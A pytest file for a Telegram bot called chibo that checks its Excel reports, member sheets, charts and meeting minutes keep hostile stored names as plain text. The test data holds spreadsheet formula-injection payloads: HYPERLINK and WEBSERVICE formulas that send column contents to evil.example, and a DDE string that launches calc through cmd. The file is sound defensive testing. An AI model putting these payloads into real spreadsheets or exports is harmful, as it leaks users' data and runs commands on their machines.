"""Every file chibo produces, from a ward whose names are hostile (#12, findings 2 and 4).

The names are written straight into the database, as data stored before the bot checked
them (or by an older version) would be: formulas in member, cell and organisation names,
topic, reasons, guests and the upper attendee; U+FFFF and control characters that XML
cannot hold; mathtext and HTML in the ward's name. The admin and the secretary then ask
the real bot for every workbook (report for a month, a quarter and a year, members'
sheet), the chart and the minutes, and `chibo report --format xlsx` writes one offline.
Each workbook is opened with openpyxl (not read-only): no formula cell at all (chibo
writes none on purpose), no error cell, and the hostile text reads back exactly as it was
stored. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import docx
import openpyxl
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.domain.model import CellType, MemberStatus, OrgKind, Role
from bot.domain.roster import NewSpan
from bot.domain.text import fold
from storage import meetings, members, orgs
from storage.models import Meeting, MeetingGuest, MeetingMark, Member, Org

from .auxil.botenv import BotEnv
from .auxil.paths import ROOT
from .fakeapi import TgUser
from .test_cli import chibo

ADMIN, SEC = 900, 200
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&TEXTJOIN(",",TRUE,C:C),"Xem")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/"&ENCODEURL(TEXTJOIN(",",TRUE,C:C)))'
# Every way a cell's text can start a formula or a DDE call, and an error word.
MEMBER_NAMES = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=2+2",
    '＝HYPERLINK("http://evil.example")',
    "|calc",
    " =3+3",
    "#N/A",
    "Nguyễn Văn An",
)
GROUP_NAME = "+Đảng bộ Khối =1+1"
WARD_NAME = "-Đảng ủy phường =2+2"
# The formulas the workbooks hold on purpose: none. A template with a total row would be
# listed here (sheet, cell).
INTENDED_FORMULAS: set[tuple[str, str]] = set()


@dataclass
class World:
    ward: Org
    cell: Org
    plain: Org
    admin: TgUser
    sec: TgUser
    member_ids: dict[str, int]
    meeting_id: int


async def _raw(env: BotEnv, model: type, key: int, **fields: object) -> None:
    """Write fields as they are, past normalize() and every check: legacy data."""
    async with env.db() as s:
        row = await s.get(model, key)
        assert row is not None
        for name, value in fields.items():
            setattr(row, name, value)


async def hostile_ward(
    env: BotEnv, names: tuple[str, ...], cell_name: str, ward_name: str = WARD_NAME
) -> World:
    """A ward → a grassroots organisation → the hostile cell (plus a plain cell under the
    ward), members named `names`, meetings in October and November (absences with
    reasons), the November one with a topic, guests and an upper attendee."""
    async with env.db() as s:
        ward = await orgs.create(s, name="Ward", kind=OrgKind.COMMUNE, parent=None, actor_id=None)
        group = await orgs.create(
            s, name="Group", kind=OrgKind.GRASSROOTS, parent=ward, actor_id=None
        )
        cell = await orgs.create(
            s, name="Cell", kind=OrgKind.CELL, parent=group, actor_id=None,
            cell_type=CellType.RESIDENTIAL,
        )  # fmt: skip
        plain = await orgs.create(
            s, name="Chi bộ Khu phố 5", kind=OrgKind.CELL, parent=ward, actor_id=None,
            cell_type=CellType.AGENCY,
        )  # fmt: skip
        ids = {}
        for i, name in enumerate(names):
            m = await members.add_member(
                s, cell_id=cell.id, full_name=f"Người Thứ {chr(65 + i)}", actor_id=None,
                spans=[NewSpan(MemberStatus.OFFICIAL, date(2010, 1, 1))],
            )  # fmt: skip
            ids[name] = m.id
    for name, member_id in ids.items():
        await _raw(env, Member, member_id, full_name=name)
    for org, name in ((ward, ward_name), (group, GROUP_NAME), (cell, cell_name)):
        await _raw(env, Org, org.id, name=name, name_key=fold(name))
    first, second = list(ids.values())[:2]
    await env.save_meeting(cell.id, date(2026, 10, 3), "regular", {first: ("unexcused", None)})
    mid = await env.save_meeting(
        cell.id, date(2026, 11, 3), "regular",
        {first: ("excused", "=2+2 ốm"), second: ("unexcused", None)},
    )  # fmt: skip
    async with env.db() as s:
        meeting = await s.get(Meeting, mid)
        assert meeting is not None
        await meetings.add_guest(s, meeting, "Lê Văn Tám", "khách")
    await _raw(env, Meeting, mid, topic="=1+1 Chủ đề", upper_attendee="@Trần Văn Hải – =post")
    await _raw(env, MeetingMark, (mid, first), reason="=2+2 ốm")
    async with env.db() as s:
        guest = await s.scalar(select(MeetingGuest.id))
    assert guest is not None
    await _raw(env, MeetingGuest, guest, name="=3+3 Khách", note="-khách mời")
    admin = await env.enrol(env.user(ADMIN, "Minh"), ward, Role.ADMIN)
    sec = await env.enrol(env.user(SEC, "Hòa"), cell, Role.SECRETARY)
    return World(ward, cell, plain, admin, sec, ids, mid)


async def ask_files(env: BotEnv, world: World, what: tuple[str, ...]) -> list[bytes]:
    """The admin's files for November, the fourth quarter and the year, as the buttons
    under /baocao ask for them."""
    admin = world.admin
    await admin.command("baocao")
    shown = admin.chat.last_bot_message.message_id
    files = []
    for period in ("2026-11", "2026-Q4", "2026"):
        for kind in what:
            before = len(admin.chat.messages)
            await admin.press_data(f"rp:f:{world.ward.id}:{period}:{kind}", shown)
            sent = [m for m in admin.chat.messages[before:] if m.document or m.photo]
            assert len(sent) == 1, (period, kind, admin.chat.bot_texts()[-1:])
            doc = sent[0].document
            files.append(doc.content if doc is not None else sent[0].photo or b"")
    return files


async def minutes(env: BotEnv, world: World) -> docx.document.Document:
    sec = world.sec
    before = len(sec.chat.messages)
    await sec.press_data(f"mt:docx:{world.meeting_id}", sec.chat.last_bot_message.message_id)
    [sent] = [m for m in sec.chat.messages[before:] if m.document]
    assert sent.document is not None
    return docx.Document(io.BytesIO(sent.document.content))


def docx_text(doc: docx.document.Document) -> str:
    cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


def cells_of(content: bytes) -> list[openpyxl.cell.Cell]:
    """Every cell of every sheet, after checking the file's XML has no formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/"):
                xml = z.read(part)
                assert b"<f>" not in xml and b"<f " not in xml, part
    wb = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: every cell's type
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_text_as_text(content: bytes, expected: set[str]) -> None:
    cells = cells_of(content)
    formulas = {(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"}
    assert formulas == INTENDED_FORMULAS, [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if c.data_type == "e"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    assert expected <= values, expected - values
    for c in cells:  # text that a program would take for a formula is marked as text
        if c.value in expected and c.value.lstrip(" \t\r")[:1] in set("=+-@|＝"):
            assert c.quotePrefix, (c.coordinate, c.value)


async def test_every_workbook_keeps_formula_like_names_as_text(env: BotEnv) -> None:
    """Finding 2: a member named =HYPERLINK(…) and a cell named =WEBSERVICE(…) (and every
    other formula start) come out of every workbook as the text they are."""
    world = await hostile_ward(env, MEMBER_NAMES, WEBSERVICE)
    reports = await ask_files(env, world, ("xlsx",))
    sheets = await ask_files(env, world, ("people",))
    for content in reports:  # cells and organisations only (S2)
        assert_text_as_text(content, {WEBSERVICE, GROUP_NAME, WARD_NAME})
    for content in sheets:
        assert_text_as_text(content, {*MEMBER_NAMES, WEBSERVICE, WARD_NAME})
    doc = docx_text(await minutes(env, world))
    # #14: the upper committee's attendee as typed ("name – post") is in the minutes too.
    for text in (
        "=1+1 Chủ đề",
        "=2+2 ốm",
        "=3+3 Khách (-khách mời)",
        HYPERLINK,
        "@Trần Văn Hải, =post",
    ):
        assert text in doc, text


async def test_chibo_report_workbook_offline(
    env: BotEnv, engine: AsyncEngine, tmp_path: Path
) -> None:
    """`chibo report --format xlsx` writes the same workbook: text stays text."""
    world = await hostile_ward(env, MEMBER_NAMES[:3], WEBSERVICE)
    out = tmp_path / "bao-cao.xlsx"
    done = chibo(
        engine, "report", f"--org={WARD_NAME}", "--period", "2026-11", "--format", "xlsx",
        "--out", str(out),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert_text_as_text(out.read_bytes(), {WEBSERVICE, GROUP_NAME, WARD_NAME})
    assert world.cell.name == "Cell"  # (the object as created; the row holds WEBSERVICE)


async def test_one_invisible_character_does_not_break_the_ward(env: BotEnv) -> None:
    """Finding 4: a member and a cell holding U+FFFF (and control characters) stored
    before normalize() dropped them: the members' sheet, the report and the minutes of the
    whole ward are still made, with the names minus what XML cannot hold."""
    names = ("Nguyễn Văn\uffff An", "Trần Thị\x01 Bình\ufffe", "Lê Văn Cường")
    world = await hostile_ward(env, names, "Chi bộ\uffff Khu phố 7", ward_name="Đảng ủy phường")
    await _raw(env, Meeting, world.meeting_id, topic="Chủ đề\uffff", upper_attendee="Hải\x0b")
    await _raw(env, MeetingMark, (world.meeting_id, world.member_ids[names[0]]), reason="ốm\uffff")
    for content in await ask_files(env, world, ("xlsx",)):
        assert_text_as_text(content, {"Chi bộ Khu phố 7", "Chi bộ Khu phố 5"})
    for content in await ask_files(env, world, ("people",)):
        assert_text_as_text(content, {"Nguyễn Văn An", "Trần Thị Bình", "Lê Văn Cường"})
    text = docx_text(await minutes(env, world))
    assert "CHI BỘ KHU PHỐ 7" in text and "Nội dung chính: Chủ đề" in text
    assert "Nguyễn Văn An (ốm)" in text and "Trần Thị Bình" in text


async def test_chart_and_caption_draw_a_name_as_written(env: BotEnv) -> None:
    """A ward named with matplotlib's mathtext and HTML: the chart is drawn (it raised at
    drawing time) and Telegram accepts its caption (the fake refuses unescaped HTML)."""
    ward_name = r"Đảng ủy $\frac{$ <b> & $x^2$"
    world = await hostile_ward(env, MEMBER_NAMES[-2:], "Chi bộ 1", ward_name=ward_name)
    pngs = await ask_files(env, world, ("png",))
    assert all(p.startswith(b"\x89PNG") for p in pngs)
    photos = [m for m in world.admin.chat.messages if m.photo]
    assert len(photos) == 3 and all(ward_name in (m.caption or "") for m in photos)


def test_every_workbook_writer_uses_the_helper() -> None:
    """Every module that makes a workbook puts its values through bot.render.xlsx: an export
    added later without it fails here (and the tests above would miss it)."""
    writers = sorted(
        p.relative_to(ROOT).as_posix()
        for folder in ("bot", "handlers", "storage")
        for p in (ROOT / folder).rglob("*.py")  # bot/ is in layers (#13): its sub-packages too
        if "openpyxl import Workbook" in p.read_text(encoding="utf-8")
    )
    assert writers == ["bot/render/person_sheet.py", "bot/render/workbook/__init__.py"]
    for path in writers:
        # a package's writer (bot/render/workbook/) may write through any of its modules
        sources = (
            (ROOT / path).parent.glob("*.py") if path.endswith("__init__.py") else [ROOT / path]
        )
        assert any(
            "from bot.render.xlsx import" in p.read_text(encoding="utf-8") for p in sources
        ), path
